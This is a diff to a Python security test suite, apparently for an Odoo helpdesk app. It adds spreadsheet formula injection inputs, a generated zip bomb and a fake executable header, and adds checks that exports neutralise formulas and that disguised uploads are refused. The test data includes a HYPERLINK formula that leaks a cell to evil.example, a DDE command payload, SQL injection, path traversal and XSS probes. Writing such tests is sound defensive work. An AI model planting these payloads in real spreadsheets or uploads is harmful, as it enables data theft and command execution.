@@ -6,8 +6,12 @@ then sent (``execute``, optionally from several threads), then the database is c
 always answer 404 and change nothing; a POST without a valid CSRF token creates nothing;
 no HTML field stores an active script; no answer reflects a markup payload unescaped.
 """
+import csv
+import io
+import re
 import threading
 import uuid
+import zipfile
 from collections import Counter
 from concurrent.futures import ThreadPoolExecutor
 from dataclasses import dataclass, field
@@ -28,6 +32,23 @@ XSS = [
 ODD = ["", " ", "\x00", "a\x00b", "null", "None", "-1", "0", "1e309", "NaN", "[]", "{}", "' OR 1=1 --",
        "%s%s%n", "{{7*7}}", "${7*7}", "../../../etc/passwd", "\u202eexe.pdf", "😀" * 10, "\ufeff",
        "9" * 30, str(2 ** 31), str(2 ** 63), "-" + str(2 ** 31), "1.5", "0x10", "\r\n\r\nX-Injected: 1"]
+# Spreadsheet formulas (ticket titles also come from email subjects): exports must show them as text
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Apri")', "=1+1", "+cmd|' /C calc'!A0", "@SUM(1+1)",
+            "-2+3", "\t=1+1"]
+
+
+def _bomb():
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("zeros.log", b"\0" * (16 * 1024 * 1024))
+    return buffer.getvalue()
+
+
+EXE = b"MZ\x90\x00" + b"\x00" * 500
+ZIP_BOMB = _bomb()  # 16 MB of zeros in ~16 kB
+HTML_AS_TEXT = b"<html><body><script>XSSPROBE</script></body></html>"
+# content that no allowed file type may carry, whatever its name: such an upload must be refused
+DISGUISED = (EXE, ZIP_BOMB, HTML_AS_TEXT)
 # JSON-RPC errors that are proper refusals or validation answers, not crashes
 CLIENT_ERRORS = {"odoo.exceptions.AccessError", "odoo.exceptions.MissingError", "odoo.exceptions.UserError",
                  "odoo.exceptions.ValidationError", "werkzeug.exceptions.NotFound",
@@ -109,6 +130,7 @@ def _texts():
         st.sampled_from(ODD),
         st.integers(min_value=201, max_value=120_000).map(lambda n: ("é€😀\u0301" * (n // 4 + 1))[:n]),
         st.builds(lambda a, b: a + b, st.sampled_from(XSS), st.text(max_size=20)),
+        st.sampled_from(FORMULAS),
     )
 
 
@@ -122,7 +144,8 @@ def _files():
     name = st.one_of(st.sampled_from(["report.pdf", "virus.exe", "x.JS", "a.pdf.exe", "../../etc/passwd",
                                       "noext", ".htaccess", "<script>XSSPROBE</script>.txt", "é😀.png",
                                       "a" * 300 + ".txt", "file\x00.txt"]), st.text(min_size=1, max_size=30))
-    content = st.one_of(st.just(b""), st.binary(max_size=64), st.just(b"MZ\x90\x00" + b"\x00" * 500),
+    name = st.one_of(name, st.sampled_from(["fattura.pdf", "schermata.png", "log.zip", "lettera.docx", "note.txt"]))
+    content = st.one_of(st.just(b""), st.binary(max_size=64), st.sampled_from(DISGUISED),
                         st.just(b"%PDF-1.4 <script>XSSPROBE</script>"),
                         st.integers(min_value=1_048_577, max_value=1_300_000).map(lambda n: b"x" * n))
     mime = st.sampled_from(["application/pdf", "text/html", "application/x-msdownload", "image/png",
@@ -272,6 +295,13 @@ def _check(req, response):
         error = (response.json().get("error") or {}).get("data", {}).get("name")
         if error and error not in CLIENT_ERRORS:
             return f"JSON-RPC internal error {error}"
+    if req.kind in ("new_ticket", "comment") and status in (302, 303) \
+            and any(content in DISGUISED for _name, content, _mime in (req.files or [])):
+        return "a disguised file (executable, zip bomb or HTML) was accepted"
+    if req.kind == "export" and status == 200:
+        problem = _export_formula(response)
+        if problem:
+            return problem
     if "html" in ctype:
         body = response.text
         for value in list(req.data.values()) + [f[0] for f in (req.files or [])]:
@@ -283,6 +313,23 @@ def _check(req, response):
         location = response.headers.get("Location", "")
         if location.startswith("//") or "evil.example" in location.split("?")[0][:40]:
             return f"open redirect to {location}"
+    return None
+
+
+def _export_formula(response):
+    """A cell of an export that a spreadsheet would run as a formula, if any."""
+    if response.content.startswith(b"PK"):
+        with zipfile.ZipFile(io.BytesIO(response.content)) as workbook:
+            sheets = [workbook.read(n).decode() for n in workbook.namelist() if n.startswith("xl/worksheets/")]
+        if any(re.search(r"<f[ >]", sheet) for sheet in sheets):
+            return "formula cell in the XLSX export"
+        return None
+    text = response.content.decode("utf-8-sig", "replace")
+    delimiter = ";" if text.split("\n", 1)[0].count(";") > text.split("\n", 1)[0].count(",") else ","
+    for row in csv.reader(io.StringIO(text), delimiter=delimiter):
+        for cell in row:
+            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
+                return f"CSV cell read as a formula: {cell[:40]!r}"
     return None
 
 
